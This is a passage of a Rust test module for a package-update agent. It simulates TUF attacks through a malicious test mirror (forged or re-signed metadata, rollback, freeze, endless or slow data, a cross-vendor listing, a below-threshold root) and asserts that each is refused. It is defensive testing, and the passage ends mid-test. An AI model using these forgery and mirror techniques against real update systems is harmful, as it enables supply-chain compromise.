//! TUF's attacks (and Herd's own: scripts, root pins) against the agent's verification, each
//! test named after its attack: a repository signed by herd-tuf's `Repository` (as the center
//! signs), served by the malicious mirror of `tests/support/mirror.rs` over loopback HTTP, real
//! archive packages built with herd-package, and the agent's own refresh, plan verification
//! and executor.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use herd_client::{ReadLimits, Repository as Upstream, RepositoryError};
use herd_core::{PackageFormat, Sha256 as Digest256, Timestamp};
use herd_package::{BuiltPackage, PackageSpec};
use herd_planner::script::{InstallSpec, UninstallSpec, install_script, uninstall_script};
use herd_proto::api::trust_refusals as kinds;
use herd_proto::api::{ReportOutcome, StepStatus};
use herd_proto::distribution::{
    HERD_ROLE, METADATA_PATH, PackageCustom, TARGETS_PATH, custom_value, herd_paths,
    package_target, vendor_paths, vendor_role,
};
use herd_proto::plan::{Action, PlanDoc, ReleaseRef, Step};
use herd_proto::terminal::InstalledDoc;
use herd_tuf::repository::{
    Desired, DesiredRole, Lifetimes, OnlineKeys, Repository, RoleContent, root_document,
};
use herd_tuf::{Root, SigningKey, TargetFile, TimestampRole, hashes_of, sign};

#[path = "../../tests/support/mirror.rs"]
mod mirror;

use super::*;
use crate::execute::{DirFetcher, Executor, ExecutorConfig, plan_id};
use herd_proto::distribution::consistent_target_name;
use mirror::{Behaviour, Mirror};

const PLATFORM: &str = "pc";

fn now() -> Timestamp {
    Timestamp::parse("2026-12-05T12:00:00Z").unwrap()
}

fn online() -> (OnlineKeys, [SigningKey; 3]) {
    let keys = || SigningKey::generate().unwrap();
    let (t, s, g) = (keys(), keys(), keys());
    let copy = |k: &SigningKey| SigningKey::from_pkcs8(k.pkcs8()).unwrap();
    (
        OnlineKeys {
            timestamp: copy(&t),
            snapshot: copy(&s),
            targets: copy(&g),
        },
        [t, s, g],
    )
}

/// A package target as the center lists it.
#[derive(Clone)]
struct Listed {
    path: String,
    bytes: Vec<u8>,
    custom: PackageCustom,
}

/// A repository, its keys, the mirror serving it, and the packages it lists.
struct Fixture {
    dir: tempfile::TempDir,
    root_keys: Vec<SigningKey>,
    online: [SigningKey; 3],
    repo: Repository,
    mirror: Mirror,
    /// Targets by vendor.
    listed: BTreeMap<String, Vec<Listed>>,
    /// Roles delegated with extra content (attacks).
    extra_roles: Vec<DesiredRole>,
    packages: BTreeMap<String, BuiltPackage>,
}

impl Fixture {
    fn new() -> Fixture {
        let root_keys: Vec<SigningKey> = (0..2).map(|_| SigningKey::generate().unwrap()).collect();
        let (keys, online) = online();
        let root = root_document(
            None,
            &root_keys.iter().map(SigningKey::public).collect::<Vec<_>>(),
            2,
            [
                &online[0].public(),
                &online[1].public(),
                &online[2].public(),
            ],
            now().plus_seconds(365 * 86_400),
        );
        let signed = sign(&root, &root_keys.iter().collect::<Vec<_>>());
        Fixture::with_root(root_keys, online, keys, signed)
    }

    fn with_root(
        root_keys: Vec<SigningKey>,
        online: [SigningKey; 3],
        keys: OnlineKeys,
        root: Vec<u8>,
    ) -> Fixture {
        let dir = tempfile::tempdir().unwrap();
        // Hooks run as `nobody`, which must be able to reach the prefix.
        fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
        let repo = Repository::new(vec![root], keys, Lifetimes::default()).unwrap();
        let fixture = Fixture {
            dir,
            root_keys,
            online,
            repo,
            mirror: Mirror::start(),
            listed: BTreeMap::new(),
            extra_roles: Vec::new(),
            packages: BTreeMap::new(),
        };
        fixture.serve_roots();
        fixture
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn serve_roots(&self) {
        for (i, bytes) in self.repo.roots().iter().enumerate() {
            self.mirror.put(
                &format!("{METADATA_PATH}{}.root.json", i + 1),
                bytes.clone(),
            );
            self.mirror
                .put(&format!("{METADATA_PATH}root.json"), bytes.clone());
        }
    }

    /// A real archive package of `product` `version`, listed by `vendor`'s role for `platform`.
    fn package(
        &mut self,
        vendor: &str,
        product: &str,
        version: &str,
        seq: u64,
        platform: &str,
    ) -> Listed {
        let src = self.path(&format!("src/{product}-{version}-{platform}"));
        fs::create_dir_all(&src).unwrap();
        let file = |name: &str, content: &[u8]| {
            let path = src.join(name);
            fs::write(&path, content).unwrap();
            fs::set_permissions(&path, fs::Permissions::from_mode(0o644)).unwrap();
            path
        };
        let marker = format!("TEST-PATTERN-{product}-{version}");
        let hex: String = marker.bytes().map(|b| format!("{b:02x}")).collect();
        let spec = PackageSpec {
            product: product.into(),
            vendor: vendor.into(),
            version: version.into(),
            seq,
            pattern: format!("p-{seq}"),
            definitions: vec![file(
                "defs.ndb",
                format!("Test.{product}:0:*:{hex}\n").as_bytes(),
            )],
            test_pattern: file("test.txt", marker.as_bytes()),
            post_install: None,
            pre_uninstall: None,
            platforms: vec![platform.into()],
        };
        let out = self.path(&format!("src/{product}-{version}-{platform}.tar.gz"));
        let built = herd_package::build(&spec, &out).unwrap();
        let bytes = fs::read(&out).unwrap();
        let custom = PackageCustom {
            vendor: vendor.into(),
            product: product.into(),
            version: version.into(),
            seq,
            pattern: format!("p-{seq}"),
            platform: platform.into(),
            format: "archive".into(),
            name: None,
            product_code: None,
            post_install: None,
            pre_uninstall: None,
            content: None,
        };
        let listed = Listed {
            path: package_target(vendor, product, version, platform, "archive"),
            bytes,
            custom,
        };
        self.listed
            .entry(vendor.to_owned())
            .or_default()
            .push(listed.clone());
        self.packages.insert(built.sha256.clone(), built);
        listed
    }

    /// A target that is not a real package (deb and the like, for uninstall scripts).
    fn list(&mut self, vendor: &str, custom: PackageCustom, bytes: &[u8]) -> Listed {
        let listed = Listed {
            path: package_target(
                &custom.vendor,
                &custom.product,
                &custom.version,
                &custom.platform,
                &custom.format,
            ),
            bytes: bytes.to_vec(),
            custom,
        };
        self.listed
            .entry(vendor.to_owned())
            .or_default()
            .push(listed.clone());
        listed
    }

    fn desired(&self) -> Desired {
        let targets_key = self.online[2].public();
        // Roles added by an attack come first: a search that ignored delegation paths would
        // look there before the genuine vendor's role.
        let mut roles: Vec<DesiredRole> = self.extra_roles.clone();
        roles.extend(self.listed.iter().map(|(vendor, listed)| {
            DesiredRole {
                name: vendor_role(vendor),
                paths: vendor_paths(vendor),
                terminating: true,
                keys: vec![targets_key.clone()],
                threshold: 1,
                content: RoleContent::Online(
                    listed
                        .iter()
                        .map(|l| (l.path.clone(), target_file(l)))
                        .collect(),
                ),
            }
        }));
        roles.push(DesiredRole {
            name: HERD_ROLE.into(),
            paths: herd_paths(),
            terminating: true,
            keys: vec![targets_key],
            threshold: 1,
            content: RoleContent::Online(BTreeMap::new()),
        });
        Desired { roles }
    }

    /// Signs what changed and serves it (metadata and targets), at `at`.
    fn publish_at(&mut self, at: Timestamp) {
        let desired = self.desired();
        for file in self.repo.update(&desired, at).unwrap() {
            self.mirror
                .put(&format!("{METADATA_PATH}{}", file.name), file.bytes);
        }
        for listed in self.listed.values().flatten() {
            let sha = hashes_of(&listed.bytes)["sha256"].clone();
            self.mirror.put(
                &format!(
                    "{TARGETS_PATH}{}",
                    consistent_target_name(&listed.path, &sha)
                ),
                listed.bytes.clone(),
            );
        }
        self.serve_roots();
    }

    fn publish(&mut self) {
        self.publish_at(now());
    }

    fn timestamp(&self) -> Vec<u8> {
        self.mirror
            .get(&format!("{METADATA_PATH}timestamp.json"))
            .unwrap()
    }

    /// A terminal's trust client with `state` as its state directory, trusting root v1.
    fn client_in(&self, state: &Path) -> TrustClient {
        let store = TrustStore::new(state);
        if !store.has_root().unwrap() {
            store.save("root", &self.repo.roots()[0]).unwrap();
        }
        let mut client = TrustClient::new(store, Upstream::mirror(&self.mirror.url()).unwrap());
        client.metadata_deadline = Duration::from_secs(3);
        client
    }

    fn client(&self) -> TrustClient {
        self.client_in(&self.path("state"))
    }

    /// The plan a center sends to install `to` (and remove what `installed` is).
    fn plan(&self, to: &Listed, uninstall: Option<Step>) -> PlanDoc {
        let c = &to.custom;
        let sha = hashes_of(&to.bytes)["sha256"].clone();
        let install = install_script(&InstallSpec {
            product: &c.product,
            version: &c.version,
            pattern: &c.pattern,
            format: PackageFormat::parse(&c.format).unwrap(),
            sha256: Digest256::parse_hex(&sha).unwrap(),
            size: to.bytes.len() as u64,
            name: c.name.as_deref(),
            product_code: c.product_code.as_deref(),
            post_install: c.post_install.as_deref(),
        });
        let mut steps = vec![
            Step::Fetch {
                product: c.product.clone(),
                version: c.version.clone(),
                format: c.format.clone(),
                sha256: sha,
                size: to.bytes.len() as u64,
                target: Some(to.path.clone()),
            },
            Step::Install {
                product: c.product.clone(),
                version: c.version.clone(),
                format: c.format.clone(),
                script: install,
            },
            Step::Verify {
                product: c.product.clone(),
                version: c.version.clone(),
                pattern: c.pattern.clone(),
            },
        ];
        steps.extend(uninstall);
        PlanDoc {
            terminal: "t1".into(),
            action: Action::Switch,
            uncovered_now: vec![],
            uncovered_now_counts: Default::default(),
            uncovered_now_more: 0,
            uncovered_after: vec![],
            uncovered_after_counts: Default::default(),
            uncovered_after_more: 0,
            from: None,
            to: Some(ReleaseRef {
                product: c.product.clone(),
                version: c.version.clone(),
                seq: c.seq,
            }),
            consent_required: false,
            not_before: None,
            steps,
            alternatives: vec![],
            reason: "test".into(),
        }
    }

    fn executor(&self) -> Executor {
        let mut config = ExecutorConfig::new(self.path("prefix"), self.path("state"));
        config.space_margin = 0;
        Executor::new(config).unwrap()
    }

    /// What the agent does with a plan: refresh, verify, and only then carry it out, with
    /// packages from the mirror.
    fn carry_out(
        &self,
        client: &mut TrustClient,
        plan: &PlanDoc,
        at: Timestamp,
    ) -> Result<herd_proto::api::PlanReport, Refusal> {
        let executor = self.executor();
        let installed = executor.installed();
        let verified = check_plan(
            client,
            plan,
            &Ours {
                platform: PLATFORM,
                installed: installed.as_ref(),
            },
            at,
        )?;
        let fetcher = MirrorFetcher {
            upstream: client.upstream(),
            targets: &verified.targets,
        };
        Ok(executor
            .execute(&plan_id(plan), &verified.plan, &fetcher)
            .unwrap())
    }

    /// The product directory's files and the `current` link: what must not change.
    fn product_state(&self) -> (Option<PathBuf>, Vec<(PathBuf, Vec<u8>)>) {
        let link = fs::read_link(self.path("prefix/current")).ok();
        let mut files = Vec::new();
        fn walk(dir: &Path, out: &mut Vec<(PathBuf, Vec<u8>)>) {
            let Ok(entries) = fs::read_dir(dir) else {
                return;
            };
            for entry in entries {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    walk(&path, out);
                } else {
                    out.push((path.clone(), fs::read(&path).unwrap_or_default()));
                }
            }
        }
        walk(&self.path("prefix/products"), &mut files);
        files.sort();
        (link, files)
    }
}

fn target_file(listed: &Listed) -> TargetFile {
    TargetFile {
        length: listed.bytes.len() as u64,
        hashes: hashes_of(&listed.bytes),
        custom: Some(custom_value(&listed.custom)),
    }
}

/// Refresh and verify, as the agent does before a plan with steps.
fn check_plan(
    client: &mut TrustClient,
    plan: &PlanDoc,
    ours: &Ours<'_>,
    at: Timestamp,
) -> Result<VerifiedPlan, Refusal> {
    client.refresh(at)?;
    verify_plan(client, plan, ours)
}

fn ours() -> Ours<'static> {
    Ours {
        platform: PLATFORM,
        installed: None,
    }
}

/// A fixture with vendor acme's product `av` 1.0 installed on the terminal and 2.0 listed.
fn installed_fixture() -> (Fixture, Listed) {
    let mut f = Fixture::new();
    let v1 = f.package("acme", "av", "1.0", 1, PLATFORM);
    let v2 = f.package("acme", "av", "2.0", 2, PLATFORM);
    f.publish();
    let mut client = f.client();
    let report = f.carry_out(&mut client, &f.plan(&v1, None), now()).unwrap();
    assert_eq!(report.outcome, ReportOutcome::Succeeded, "{report:?}");
    (f, v2)
}

fn uninstall_step(product: &str, version: &str) -> Step {
    Step::Uninstall {
        product: product.into(),
        version: version.into(),
        format: "archive".into(),
        script: uninstall_script(&UninstallSpec {
            product,
            version,
            format: PackageFormat::Archive,
            name: None,
            product_code: None,
            pre_uninstall: None,
        }),
        target: None,
    }
}

#[test]
fn an_honest_plan_is_carried_out_and_an_idle_refresh_reads_only_the_timestamp() {
    let (f, v2) = installed_fixture();
    let mut client = f.client();
    let plan = f.plan(&v2, Some(uninstall_step("av", "1.0")));
    let report = f.carry_out(&mut client, &plan, now()).unwrap();
    assert_eq!(report.outcome, ReportOutcome::Succeeded, "{report:?}");
    assert_eq!(
        f.product_state().0.unwrap(),
        PathBuf::from("products/av/2.0")
    );
    assert!(!f.path("prefix/products/av/1.0").exists());
    // The package came from the mirror's consistent-snapshot name.
    let sha = hashes_of(&v2.bytes)["sha256"].clone();
    let fetched = format!("{TARGETS_PATH}{}", consistent_target_name(&v2.path, &sha));
    assert!(f.mirror.take_requests().contains(&fetched));

    // Nothing changed upstream: the timestamp, nothing else (the root was probed for at the
    // process's first refresh, and is again only after ROOT_PROBE_SECS).
    let idle = client.refresh(now()).unwrap();
    let requests = f.mirror.take_requests();
    assert_eq!(requests, [format!("{METADATA_PATH}timestamp.json")]);
    assert!(!idle.snapshot_changed);
    assert_eq!(idle.requests, 1);
    // Only the timestamp's bytes: a 404's body is not read.
    assert_eq!(idle.bytes, f.timestamp().len() as u64);
    // A day later the next root is probed for again (this fixture's timestamp has expired
    // by then, which is refused, after the probe).
    let late = client.refresh(now().plus_seconds(super::ROOT_PROBE_SECS));
    assert!(late.is_err());
    assert_eq!(
        f.mirror.take_requests()[0],
        format!("{METADATA_PATH}2.root.json")
    );
    eprintln!(
        "bytes per idle refresh: {} in {} requests (timestamp.json is {} bytes)",
        idle.bytes,
        idle.requests,
        f.timestamp().len()
    );
}

#[test]
fn arbitrary_installation_a_tampered_target_is_refused_and_nothing_changes() {
    let (f, v2) = installed_fixture();
    let before = f.product_state();
    let mut client = f.client();
    // A plan naming the signed target but other bytes (the center's own digest of them).
    let mut tampered = v2.clone();
    tampered.bytes.extend_from_slice(b"evil");
    let plan = f.plan(&tampered, Some(uninstall_step("av", "1.0")));
    let refusal = f.carry_out(&mut client, &plan, now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::MISMATCH, "{refusal}");
    assert!(
        refusal.detail.contains("is not the signed target"),
        "{refusal}"
    );
    assert_eq!(f.product_state(), before);

    // The mirror serves other bytes under the signed target's name: the executor's check of
    // the signed length and SHA-256 (the step's, by now) refuses them.
    let sha = hashes_of(&v2.bytes)["sha256"].clone();
    let mut evil = v2.bytes.clone();
    evil[10] ^= 0xff;
    f.mirror.set(
        &format!("{TARGETS_PATH}{}", consistent_target_name(&v2.path, &sha)),
        Behaviour::Replace(evil),
    );
    let plan = f.plan(&v2, Some(uninstall_step("av", "1.0")));
    let report = f.carry_out(&mut client, &plan, now()).unwrap();
    assert_eq!(report.outcome, ReportOutcome::RolledBack, "{report:?}");
    assert_eq!(report.steps[0].status, StepStatus::Failed);
    assert_eq!(f.product_state(), before);
}

#[test]
fn arbitrary_installation_metadata_changed_without_the_key_is_refused() {
    let mut f = Fixture::new();
    let v1 = f.package("acme", "av", "1.0", 1, PLATFORM);
    f.publish();
    // The vendor role re-signed by a key the delegation does not name, listing other bytes.
    let role = format!("{METADATA_PATH}1.{}.json", vendor_role("acme"));
    let genuine = f.mirror.get(&role).unwrap();
    let mut doc: serde_json::Value = serde_json::from_slice(&genuine).unwrap();
    let signed: herd_tuf::Targets = serde_json::from_value(doc["signed"].clone()).unwrap();
    let mut forged = signed.clone();
    let evil = b"evil package".to_vec();
    forged.targets.get_mut(&v1.path).unwrap().length = evil.len() as u64;
    forged.targets.get_mut(&v1.path).unwrap().hashes = hashes_of(&evil);
    let attacker = SigningKey::generate().unwrap();
    f.mirror
        .set(&role, Behaviour::Replace(sign(&forged, &[&attacker])));
    let mut client = f.client();
    let refusal = check_plan(&mut client, &f.plan(&v1, None), &ours(), now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::SIGNATURE, "{refusal}");

    // The timestamp edited in place (a later expiry), its signature now over other bytes.
    f.mirror.honest(&role);
    doc = serde_json::from_slice(&f.timestamp()).unwrap();
    doc["signed"]["expires"] = "2099-01-01T00:00:00Z".into();
    f.mirror.set(
        &format!("{METADATA_PATH}timestamp.json"),
        Behaviour::Replace(serde_json::to_vec(&doc).unwrap()),
    );
    let refusal = f.client_in(&f.path("other")).refresh(now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::SIGNATURE, "{refusal}");
    assert_eq!(refusal.subject.as_deref(), Some("timestamp"));
}

#[test]
fn rollback_an_older_timestamp_is_refused_also_after_a_restart() {
    let mut f = Fixture::new();
    let v1 = f.package("acme", "av", "1.0", 1, PLATFORM);
    f.publish();
    let old_timestamp = f.timestamp();
    let old_targets = f
        .mirror
        .get(&format!("{METADATA_PATH}1.{}.json", vendor_role("acme")))
        .unwrap();
    f.package("acme", "av", "2.0", 2, PLATFORM);
    f.publish();
    let mut client = f.client();
    check_plan(&mut client, &f.plan(&v1, None), &ours(), now()).unwrap();

    let ts = format!("{METADATA_PATH}timestamp.json");
    f.mirror.set(&ts, Behaviour::Replace(old_timestamp));
    let refusal = client.refresh(now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::ROLLBACK, "{refusal}");
    // A new process (an agent restart) reads what it trusted from its store.
    let refusal = f.client().refresh(now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::ROLLBACK, "{refusal}");
    assert!(refusal.detail.contains("rollback"), "{refusal}");

    // An older vendor role under the new version's name: not the version the snapshot names.
    f.mirror.honest(&ts);
    f.mirror.set(
        &format!("{METADATA_PATH}2.{}.json", vendor_role("acme")),
        Behaviour::Replace(old_targets),
    );
    let refusal = check_plan(
        &mut f.client_in(&f.path("fresh")),
        &f.plan(&v1, None),
        &ours(),
        now(),
    )
    .unwrap_err();
    assert_eq!(refusal.kind, kinds::ROLLBACK, "{refusal}");
    assert!(refusal.detail.contains("mix-and-match"), "{refusal}");

    // A newer timestamp (its key stolen) naming the older snapshot, exactly as it was signed.
    let old_snapshot = f
        .mirror
        .get(&format!("{METADATA_PATH}1.snapshot.json"))
        .unwrap();
    let genuine: serde_json::Value = serde_json::from_slice(&f.timestamp()).unwrap();
    let mut forged: TimestampRole = serde_json::from_value(genuine["signed"].clone()).unwrap();
    forged.version += 1;
    forged.meta.insert(
        "snapshot.json".into(),
        herd_tuf::MetaFile {
            version: 1,
            length: Some(old_snapshot.len() as u64),
            hashes: Some(hashes_of(&old_snapshot)),
        },
    );
    f.mirror
        .set(&ts, Behaviour::Replace(sign(&forged, &[&f.online[0]])));
    let refusal = f.client().refresh(now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::ROLLBACK, "{refusal}");
    assert!(refusal.detail.contains("snapshot"), "{refusal}");
}

#[test]
fn indefinite_freeze_an_expired_timestamp_served_forever_is_refused() {
    let mut f = Fixture::new();
    f.package("acme", "av", "1.0", 1, PLATFORM);
    f.publish();
    let mut client = f.client();
    client.refresh(now()).unwrap();
    // The mirror keeps serving the same timestamp: 6 h later it has expired.
    let later = now().plus_seconds(6 * 3600 + 1);
    let refusal = client.refresh(later).unwrap_err();
    assert_eq!(refusal.kind, kinds::EXPIRED, "{refusal}");
    assert_eq!(refusal.subject.as_deref(), Some("timestamp"));
    // Once the repository re-signs, the agent goes on.
    f.publish_at(later);
    client.refresh(later).unwrap();
}

#[test]
fn endless_data_metadata_and_targets_longer_than_allowed_are_cut_off() {
    let mut f = Fixture::new();
    let v1 = f.package("acme", "av", "1.0", 1, PLATFORM);
    f.publish();
    let ts = format!("{METADATA_PATH}timestamp.json");
    f.mirror.set(&ts, Behaviour::Endless);
    let started = Instant::now();
    let refusal = f.client().refresh(now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::MISMATCH, "{refusal}");
    assert!(refusal.detail.contains("endless data"), "{refusal}");
    assert!(started.elapsed() < Duration::from_secs(10));
    f.mirror.honest(&ts);

    // A target larger than its signed length: refused before more is written.
    let mut client = f.client();
    let verified = check_plan(&mut client, &f.plan(&v1, None), &ours(), now()).unwrap();
    let sha = hashes_of(&v1.bytes)["sha256"].clone();
    let url = format!("{TARGETS_PATH}{}", consistent_target_name(&v1.path, &sha));
    let mut bigger = v1.bytes.clone();
    bigger.extend(std::iter::repeat_n(0u8, 1 << 20));
    f.mirror.set(&url, Behaviour::Replace(bigger));
    let fetcher = MirrorFetcher {
        upstream: client.upstream(),
        targets: &verified.targets,
    };
    let dest = f.path("download.part");
    fs::write(&dest, b"").unwrap();
    let err = crate::execute::Fetcher::fetch(&fetcher, &sha, v1.bytes.len() as u64, &dest, 0)
        .unwrap_err();
    assert!(err.to_string().contains("endless data"), "{err}");
    assert!(fs::metadata(&dest).unwrap().len() <= v1.bytes.len() as u64);
    f.mirror.set(&url, Behaviour::Endless);
    let err = crate::execute::Fetcher::fetch(&fetcher, &sha, v1.bytes.len() as u64, &dest, 0)
        .unwrap_err();
    assert!(err.to_string().contains("endless data"), "{err}");
}

#[test]
fn slow_retrieval_a_trickling_or_stalled_mirror_is_given_up_on_within_the_deadline() {
    let mut f = Fixture::new();
    f.package("acme", "av", "1.0", 1, PLATFORM);
    f.publish();
    let ts = format!("{METADATA_PATH}timestamp.json");
    for behaviour in [
        Behaviour::Trickle {
            bytes_per_second: 20,
        },
        Behaviour::Stall,
    ] {
        f.mirror.set(&ts, behaviour.clone());
        let started = Instant::now();
        let refusal = f.client().refresh(now()).unwrap_err();
        let took = started.elapsed();
        assert_eq!(refusal.kind, kinds::SLOW, "{behaviour:?}: {refusal}");
        assert!(refusal.is_transient());
        // The deadline is 3 s; a read in progress ends within the stall timeout's tick.
        assert!(took < Duration::from_secs(8), "{behaviour:?} took {took:?}");
    }

    // A target trickling below the minimum rate once the grace period is over.
    let upstream = Upstream::mirror(&f.mirror.url()).unwrap();
    f.mirror.put("/slow", vec![7u8; 10_000]);
    f.mirror.set(
        "/slow",
        Behaviour::Trickle {
            bytes_per_second: 50,
        },
    );
    let limits = ReadLimits {
        min_rate: Some((1000, Duration::from_secs(1))),
        ..ReadLimits::target(10_000)
    };
    let mut file = tempfile::tempfile().unwrap();
    let started = Instant::now();
    let err = upstream
        .download("/slow", limits, 0, &mut file)
        .unwrap_err();
    assert!(matches!(err, RepositoryError::Slow { .. }), "{err}");
    assert!(started.elapsed() < Duration::from_secs(5));
}

#[test]
fn extraneous_dependencies_another_vendors_role_cannot_list_a_vendors_package() {
    let mut f = Fixture::new();
    f.package("acme", "av", "1.0", 1, PLATFORM);
    // Vendor evil's role lists a package under acme's directory.
    let mut evil = f.package("evil", "av", "9.0", 9, PLATFORM);
    f.listed.remove("evil");
    evil.custom.vendor = "acme".into();
    evil.path = package_target("acme", "av", "9.0", PLATFORM, "archive");
    f.extra_roles.push(DesiredRole {
        name: vendor_role("evil"),
        paths: vendor_paths("evil"),
        terminating: true,
        keys: vec![f.online[2].public()],
        threshold: 1,
        content: RoleContent::Online(BTreeMap::from([(evil.path.clone(), target_file(&evil))])),
    });
    f.publish();
    let mut client = f.client();
    let refusal = check_plan(&mut client, &f.plan(&evil, None), &ours(), now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::UNLISTED, "{refusal}");
    assert!(
        refusal.detail.contains("arbitrary installation"),
        "{refusal}"
    );
}

#[test]
fn mix_and_match_a_snapshot_other_than_the_timestamp_names_is_refused() {
    let mut f = Fixture::new();
    f.package("acme", "av", "1.0", 1, PLATFORM);
    f.publish();
    let first = f
        .mirror
        .get(&format!("{METADATA_PATH}1.snapshot.json"))
        .unwrap();
    f.package("acme", "av", "2.0", 2, PLATFORM);
    f.publish();
    f.mirror.set(
        &format!("{METADATA_PATH}2.snapshot.json"),
        Behaviour::Replace(first),
    );
    let refusal = f.client().refresh(now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::MISMATCH, "{refusal}");
    assert_eq!(refusal.subject.as_deref(), Some("snapshot"));
}

#[test]
fn malicious_mirrors_preventing_updates_are_reported_unavailable_and_the_product_stays() {
    let (f, v2) = installed_fixture();
    let before = f.product_state();
    for behaviour in [Behaviour::Withhold, Behaviour::Fail] {
        f.mirror
            .set(&format!("{METADATA_PATH}timestamp.json"), behaviour.clone());
        let plan = f.plan(&v2, Some(uninstall_step("av", "1.0")));
        let refusal = f.carry_out(&mut f.client(), &plan, now()).unwrap_err();
        assert_eq!(refusal.kind, kinds::UNAVAILABLE, "{behaviour:?}: {refusal}");
        assert!(refusal.is_transient());
        assert_eq!(f.product_state(), before);
    }
}

#[test]
fn wrong_software_another_products_or_platforms_valid_target_is_refused() {
    let mut f = Fixture::new();
    let other_platform = f.package("acme", "av", "1.0", 1, "arm");
    let other_product = f.package("acme", "scanner", "1.0", 1, PLATFORM);
    let wanted = f.package("acme", "av", "2.0", 2, PLATFORM);
    f.publish();
    let mut client = f.client();
    let refusal =
        check_plan(&mut client, &f.plan(&other_platform, None), &ours(), now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::UNLISTED, "{refusal}");
    assert!(refusal.detail.contains("built for arm"), "{refusal}");

    // The plan is to `av` 2.0, but its fetch names the valid target of `scanner`.
    let mut plan = f.plan(&wanted, None);
    let genuine = f.plan(&other_product, None);
    plan.steps[0] = genuine.steps[0].clone();
    let refusal = check_plan(&mut client, &plan, &ours(), now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::UNLISTED, "{refusal}");
    assert!(refusal.detail.contains("wrong software"), "{refusal}");

    // A plan without targets (a center older than signed distribution) is refused too.
    let mut plan = f.plan(&wanted, None);
    if let Step::Fetch { target, .. } = &mut plan.steps[0] {
        *target = None;
    }
    let refusal = check_plan(&mut client, &plan, &ours(), now()).unwrap_err();
    assert!(
        refusal.detail.contains("names no signed target"),
        "{refusal}"
    );
}

#[test]
fn key_compromise_below_threshold_a_root_signed_by_one_of_two_keys_is_refused() {
    let mut f = Fixture::new();
    f.publish();
    let current: Root = f.repo.root().clone();
    let mut next = current.clone();
    next.version = 2;
    let attacker = SigningKey::generate().unwrap();
    next.keys.insert(attacker.key_id(), attacker.public());
    next.roles.get_mut("timestamp").unwrap().keyids = vec![attacker.key_id()];
    f.mirror.put(
        &format!("{METADATA_PATH}2.root.json"),
        sign(&next, &[&f.root_keys[0]]),
    );
    let refusal = f.client().refresh(now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::SIGNATURE, "{refusal}");
    assert!(refusal.detail.contains("1 valid signature(s)"), "{refusal}");
}

#[test]
fn fast_forward_recovery_after_a_root_rotation_accepts_the_new_timestamp_key() {
    let mut f = Fixture::new();
    f.package("acme", "av", "1.0", 1, PLATFORM);
    f.publish();
    // The old timestamp key was compromised and pushed the terminal to version 1000.
    let genuine: serde_json::Value = serde_json::from_slice(&f.timestamp()).unwrap();
    let mut pushed: TimestampRole = serde_json::from_value(genuine["signed"].clone()).unwrap();
    pushed.version = 1000;
    f.mirror.put(
        &format!("{METADATA_PATH}timestamp.json"),
        sign(&pushed, &[&f.online[0]]),
    );
    let mut client = f.client();
    client.refresh(now()).unwrap();
    assert_eq!(client.trusted().unwrap().timestamp().unwrap().version, 1000);

    // The root rotates the timestamp key; the repository signs with the new one.
    let new_timestamp = SigningKey::generate().unwrap();
    let current = f.repo.root().clone();
    let next = root_document(
        Some(&current),
        &f.root_keys
            .iter()
            .map(SigningKey::public)
            .collect::<Vec<_>>(),
        2,
        [
            &new_timestamp.public(),
            &f.online[1].public(),
            &f.online[2].public(),
        ],
        now().plus_seconds(365 * 86_400),
    );
    f.repo
        .add_root(sign(&next, &f.root_keys.iter().collect::<Vec<_>>()))
        .unwrap();
    let copy = |k: &SigningKey| SigningKey::from_pkcs8(k.pkcs8()).unwrap();
    f.repo.set_online_keys(OnlineKeys {
        timestamp: copy(&new_timestamp),
        snapshot: copy(&f.online[1]),
        targets: copy(&f.online[2]),
    });
    f.online[0] = new_timestamp;
    f.publish();
    let refreshed = client.refresh(now()).unwrap();
    assert_eq!(refreshed.root_version, 2);
    assert!(refreshed.timestamp_version < 1000, "{refreshed:?}");
    assert_eq!(
        TrustStore::new(&f.path("state"))
            .load("root")
            .unwrap()
            .unwrap(),
        f.repo.roots()[1]
    );
}

#[test]
fn a_root_pin_refuses_a_vendor_role_delegated_to_another_key() {
    let root_keys: Vec<SigningKey> = (0..2).map(|_| SigningKey::generate().unwrap()).collect();
    let (keys, online) = online();
    let vendor_key = SigningKey::generate().unwrap();
    let mut root = root_document(
        None,
        &root_keys.iter().map(SigningKey::public).collect::<Vec<_>>(),
        2,
        [
            &online[0].public(),
            &online[1].public(),
            &online[2].public(),
        ],
        now().plus_seconds(365 * 86_400),
    );
    root.pinned_roles
        .insert(vendor_role("acme"), vec![vendor_key.key_id()]);
    let signed = sign(&root, &root_keys.iter().collect::<Vec<_>>());
    let mut f = Fixture::with_root(root_keys, online, keys, signed);
    // The center delegates acme's role to its own online targets key instead.
    let v1 = f.package("acme", "av", "1.0", 1, PLATFORM);
    f.publish();
    let refusal = check_plan(&mut f.client(), &f.plan(&v1, None), &ours(), now()).unwrap_err();
    assert_eq!(refusal.kind, kinds::SIGNATURE, "{refusal}");
    assert!(refusal.detail.contains("root pins it"), "{refusal}");
}

#[test]
fn a_plan_with_a_script_the_agent_would_not_generate_is_refused_and_nothing_changes() {
    let (mut f, v2) = installed_fixture();
    // A deb package of the installed product, so an uninstall runs a script.
    let deb = PackageCustom {
        format: "deb".into(),
        name: Some("acme-av".into()),
        version: "1.0".into(),
        ..v2.custom.clone()
    };
    let deb = f.list("acme", deb, b"a deb");
    f.publish();
    let before = f.product_state();
    let genuine = uninstall_script(&UninstallSpec {
        product: "av",
        version: "1.0",
        format: PackageFormat::Deb,
        name: Some("acme-av"),
        product_code: None,
        pre_uninstall: None,
    });
    let step = |script: String| Step::Uninstall {
        product: "av".into(),
        version: "1.0".into(),
        format: "deb".into(),
        script,
        target: Some(deb.path.clone()),
    };
    let mut client = f.client();
